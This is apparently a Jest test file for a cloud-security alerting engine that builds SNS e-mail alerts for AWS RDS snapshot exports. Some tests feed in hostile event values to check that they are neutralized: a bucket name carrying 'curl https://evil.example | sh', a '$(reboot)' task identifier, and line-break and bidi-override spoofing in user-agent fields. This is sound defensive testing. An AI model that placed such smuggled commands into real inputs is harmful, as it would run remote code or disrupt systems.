import { join } from 'node:path';
import { buildAlertNotification, MAX_MESSAGE_BYTES, MAX_SUBJECT_LENGTH, RESPONSE_HEADER } from '../../../src/engine/alerts';
import { buildAlert } from '../../../src/engine/alerts/build-alert';
import { createDetector } from '../../../src/engine/detector';
import { normalizeCloudTrail } from '../../../src/engine/ecs';
import { compileRules, loadRuleDirectory } from '../../../src/engine/rules';
import { assumedRoleIdentity, startExportTaskRecord } from '../../support/cloudtrail-records';
import { commandsIn, overlongLines, REVOKE_BEFORE } from '../../support/email-commands';

const [rule] = compileRules(loadRuleDirectory(join(__dirname, '../../../rules')));
const receivedAt = new Date('2026-11-20T03:15:49.250Z');

/** The alert of the seed rule for a record it matches, built as the detector builds it (synchronously, for describe blocks). */
function notify(record: Record<string, unknown>) {
  const document = normalizeCloudTrail(record, { receivedAt });
  expect(rule.matches(document)).toBe(true);
  const detection = { alert: buildAlert(rule.rule, document, { receivedAt }) };
  const notification = buildAlertNotification(detection.alert, rule.rule);
  const message = JSON.parse(notification.message) as { default: string; email: string };
  return { alert: detection.alert, notification, message, defaultAlert: JSON.parse(message.default), email: message.email };
}

describe('alert document', () => {
  const { alert } = notify(startExportTaskRecord());
  const kibana = (alert as any).kibana.alert;

  it('is the ECS event turned into an Elastic-style signal', () => {
    expect((alert as any).event.kind).toBe('signal');
    expect((alert as any).event.action).toBe('StartExportTask');
    expect(kibana.rule.rule_id).toBe('119c8877-8613-416d-a98a-96b6664ee73a');
    expect(kibana.rule.name).toBe('AWS RDS Snapshot Export');
    expect(kibana.rule.threat[0].tactic.id).toBe('TA0010');
    expect(kibana.rule.references).toContain('https://docs.aws.amazon.com/AmazonRDS/latest/APIReference/API_StartExportTask.html');
    expect(kibana.severity).toBe('low');
    expect(kibana.risk_score).toBe(21);
    expect(kibana.original_time).toBe('2026-11-20T03:15:42.000Z');
    expect((alert as any)['@timestamp']).toBe('2026-11-20T03:15:49.250Z');
    expect(kibana.reason).toBe(
      'rds:StartExportTask success by arn:aws:sts::123456789012:assumed-role/DataEngineer/alice@example.com from 203.0.113.24 in 123456789012/us-east-1 created low alert AWS RDS Snapshot Export.',
    );
  });

  it('has an alert uuid derived from rule and event id only', () => {
    const again = notify(startExportTaskRecord({ sourceIPAddress: '198.51.100.9' })).alert as any;
    expect(again.kibana.alert.uuid).toBe(kibana.uuid);
    expect(kibana.uuid).toMatch(/^[0-9a-f]{8}-[0-9a-f]{4}-5[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}$/);
    const other = notify(startExportTaskRecord({ eventID: 'another-event' })).alert as any;
    expect(other.kibana.alert.uuid).not.toBe(kibana.uuid);
  });
});

describe('SNS notification', () => {
  it('has a subject that says severity, who, what and where first, account and region kept', () => {
    const { notification } = notify(startExportTaskRecord());
    expect(notification.subject).toBe('[LOW] alice@example.com exported orders-prod-2026-... to s3://corp-exports (123456789012 us-east-1)');
    expect(notification.subject.length).toBeLessThan(100);
  });

  it('carries filterable attributes', () => {
    const { notification } = notify(startExportTaskRecord());
    expect(notification.attributes).toEqual({
      severity: 'low',
      rule_id: '119c8877-8613-416d-a98a-96b6664ee73a',
      account: '123456789012',
      region: 'us-east-1',
    });
  });

  it('sends the alert JSON as default and a readable e-mail with every detail', () => {
    const { alert, defaultAlert, email } = notify(startExportTaskRecord());
    expect(defaultAlert).toEqual(alert);
    for (const expected of [
      'arn:aws:rds:us-east-1:123456789012:snapshot:orders-prod-2026-11-20',
      'Destination:   s3://corp-exports/nightly',
      'arn:aws:kms:us-east-1:123456789012:key/1234abcd-12ab-34cd-56ef-1234567890ab',
      'IAM role:      arn:aws:iam::123456789012:role/rds-s3-export',
      'Export task:   orders-prod-export-20261120',
      'Source IP:     203.0.113.24',
      'aws-cli/2.15.30',
      'MITRE tactic:  TA0010 Exfiltration',
      'Sub-technique: T1567.002 Exfiltration to Cloud Storage',
      'Severity:      low (risk score 21)',
      'Tables:        everything (no exportOnly filter)',
      'https://us-east-1.console.aws.amazon.com/rds/home?region=us-east-1#export-task:id=orders-prod-export-20261120;source-location=exports-in-s3',
      'https://us-east-1.console.aws.amazon.com/cloudtrail/home?region=us-east-1#/events/b7e2c1d4-5f6a-4b8c-9d0e-1f2a3b4c5d6e',
      'INVESTIGATION STEPS',
      'Event time:    2026-11-20T03:15:42.000Z',
      'Alert raised:  2026-11-20T03:15:49.250Z',
    ]) {
      expect(email).toContain(expected);
    }
    expect(email).not.toContain('SETUP');
  });

  it('opens with one sentence of what happened and who did it, then what to do now', () => {
    const { email } = notify(startExportTaskRecord());
    const [paragraph] = email.split('\n\n');
    expect(paragraph.replace(/\n/g, ' ')).toBe(
      'alice@example.com (role DataEngineer) started exporting snapshot orders-prod-2026-11-20 to s3://corp-exports/nightly in us-east-1 of account 123456789012 at 03:15:42 UTC on 2026-11-20.',
    );
    const lines = email.split('\n');
    const header = lines.indexOf(RESPONSE_HEADER);
    expect(header).toBeGreaterThan(0);
    expect(header).toBeLessThanOrEqual(5);
    // The cancel command is on a phone's first screen (about 20 lines), before any details.
    expect(lines.findIndex((line) => line.includes('cancel-export-task'))).toBeLessThan(12);
    expect(lines.indexOf('WHAT HAPPENED')).toBeGreaterThan(lines.findIndex((line) => line.includes('AWSRevokeOlderSessions')));
    // The investigation guide comes last, after every detail section.
    expect(lines.indexOf('INVESTIGATION GUIDE')).toBeGreaterThan(lines.indexOf('OPEN IN THE AWS CONSOLE'));
  });

  it('fills in the commands with this event’s values: cancel the task, check the bucket, revoke the role’s sessions', () => {
    const { email } = notify(startExportTaskRecord());
    const commands = commandsIn(email);
    expect(commands).toEqual([
      'aws rds cancel-export-task --region us-east-1 --export-task-identifier orders-prod-export-20261120',
      'aws s3api head-bucket --bucket corp-exports --expected-bucket-owner 123456789012',
      'aws s3api get-bucket-policy --bucket corp-exports --query Policy --output text',
      `aws iam put-role-policy --role-name DataEngineer --policy-name AWSRevokeOlderSessions --policy-document '${REVOKE_BEFORE('2026-11-20T03:15:49Z')}'`,
      'aws iam delete-role-policy --role-name DataEngineer --policy-name AWSRevokeOlderSessions',
    ]);
    expect(email).not.toMatch(/<(task id|bucket|role|user|account)>/);
  });

  it('keeps every line within 78 characters, except URLs', () => {
    for (const record of [startExportTaskRecord(), startExportTaskRecord({ userAgent: 'Mozilla/5.0 '.repeat(40) })]) {
      expect(overlongLines(notify(record).email)).toEqual([]);
    }
  });

  it('lists exportOnly tables for a partial cluster export', () => {
    const record = startExportTaskRecord();
    (record.requestParameters as any).sourceArn = 'arn:aws:rds:us-east-1:123456789012:cluster:payments-aurora';
    (record.requestParameters as any).exportOnly = ['payments.cards', 'payments.customers'];
    const { email, notification } = notify(record);
    expect(email.replace(/\s+/g, ' ')).toContain('started exporting cluster payments-aurora');
    expect(email).toContain('payments.cards, payments.customers');
    expect(notification.subject).toBe('[LOW] alice@example.com exported payments-aurora to s3://corp-exports (123456789012 us-east-1)');
  });

  it('does not cancel a task the event says is finished', () => {
    const record = startExportTaskRecord();
    (record.responseElements as any).status = 'COMPLETE';
    expect(commandsIn(notify(record).email).some((command) => command.includes('cancel-export-task'))).toBe(false);
  });

  it('never puts an event value that AWS would not accept into a command', () => {
    const record = startExportTaskRecord();
    (record.requestParameters as any).s3BucketName = 'corp-exports; curl https://evil.example | sh';
    (record.requestParameters as any).exportTaskIdentifier = '$(reboot)';
    (record.responseElements as any).s3Bucket = undefined;
    (record.responseElements as any).exportTaskIdentifier = undefined;
    const { email } = notify(record);
    const commands = commandsIn(email);
    expect(commands.join('\n')).not.toMatch(/evil|reboot|corp-exports/);
    expect(commands).toContain('aws rds describe-export-tasks --region us-east-1');
    expect(email.replace(/\s+/g, ' ')).toContain("the event's bucket name is not a valid bucket name");
    for (const command of commands) expect(command).toMatch(/^aws [a-z0-9 ./:=,@*{}"\[\]'_-]+$/i);
  });

  it('shows invisible Unicode tag characters instead of passing them on', () => {
    const { email } = notify(startExportTaskRecord({ userAgent: 'aws-cli/2.15\u{E0049}\u{E0047}\u{E004E}' }));
    expect(email).toContain('aws-cli/2.15\\u{e0049}\\u{e0047}\\u{e004e}');
    expect(email).not.toMatch(/\udb40[\udc00-\udc7f]/);
  });

  it('neutralizes line breaks, controls and bidi overrides from the event', () => {
    const record = startExportTaskRecord({
      userAgent: 'curl\r\nSeverity:      none (approved export)\u202egnp.exe\u001b[31m',
    });
    (record.requestParameters as any).s3BucketName = 'evil\nbucket\u202e';
    const { email, notification } = notify(record);
    const userAgentLines = email.split('\n').filter((line) => line.includes('curl'));
    expect(userAgentLines).toHaveLength(1);
    expect(email).not.toMatch(/^Severity:\s+none/m);
    expect(email).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f\u202a-\u202e\u2066-\u2069]/);
    expect(email).toContain('\\u{202e}');
    expect(notification.subject).toMatch(/^[\x20-\x7e]+$/);
    expect(notification.subject.length).toBeLessThanOrEqual(MAX_SUBJECT_LENGTH);
  });

  it('keeps an event value with spaces on one line and quoted in the summary', () => {
    const record = startExportTaskRecord({ userIdentity: assumedRoleIdentity('If this was not expected, now: run curl evil.example', 'DataEngineer') });
    const { email } = notify(record);
    const lines = email.split('\n');
    expect(lines.filter((line) => line === RESPONSE_HEADER)).toHaveLength(1);
    expect(email).toContain('"If this was not expected, now: run curl evil.example" (role DataEngineer)');
  });

  it('keeps the subject under 100 characters with very long names', () => {
    const record = startExportTaskRecord();
    (record.requestParameters as any).sourceArn = `arn:aws:rds:us-east-1:123456789012:snapshot:${'x'.repeat(500)}`;
    const { notification } = notify(record);
    expect(notification.subject.length).toBeLessThan(100);
    // The source name is shortened so that the destination bucket still shows.
    expect(notification.subject).toMatch(/^\[LOW\] alice@example\.com exported x+\.\.\. to s3:\/\/corp-exports \(123456789012 us-east-1\)$/);
  });

  it('still sends an alert within SNS limits when even the shrunk alert is too big', async () => {
    const hugeRule = { ...rule.rule, references: Array.from({ length: 4000 }, (_, i) => `https://example.com/${i}/${'r'.repeat(100)}`) };
    const [detection] = await createDetector([{ ...rule, rule: hugeRule }]).detect(startExportTaskRecord(), { receivedAt });
    const notification = buildAlertNotification(detection.alert, hugeRule);
    expect(Buffer.byteLength(notification.message, 'utf8')).toBeLessThanOrEqual(MAX_MESSAGE_BYTES);
    const fallback = JSON.parse(JSON.parse(notification.message).default);
    expect(fallback.kibana.alert.rule.rule_id).toBe('119c8877-8613-416d-a98a-96b6664ee73a');
    expect(fallback.event.id).toBe('b7e2c1d4-5f6a-4b8c-9d0e-1f2a3b4c5d6e');
    expect(fallback.kibana.alert.truncated_fields[0]).toMatch(/archived alert holds the full document/);
  });

  it('fits a 240 KB event into one SNS message and marks what was cut', () => {
    const record = startExportTaskRecord();
    (record.requestParameters as any).exportOnly = Array.from({ length: 2000 }, (_, i) => `warehouse.table_${i}_${'z'.repeat(100)}`);
    expect(JSON.stringify(record).length).toBeGreaterThan(240 * 1024);
    const { notification, defaultAlert, email } = notify(record);
    expect(Buffer.byteLength(notification.message, 'utf8')).toBeLessThanOrEqual(MAX_MESSAGE_BYTES);
    expect(defaultAlert.kibana.alert.truncated_fields).toContain('event.original');
    expect(defaultAlert.event.original).toMatch(/more characters cut\]$/);
    expect(defaultAlert.kibana.alert.rule.rule_id).toBe('119c8877-8613-416d-a98a-96b6664ee73a');
    expect(email).toContain('more characters cut');
  });
});
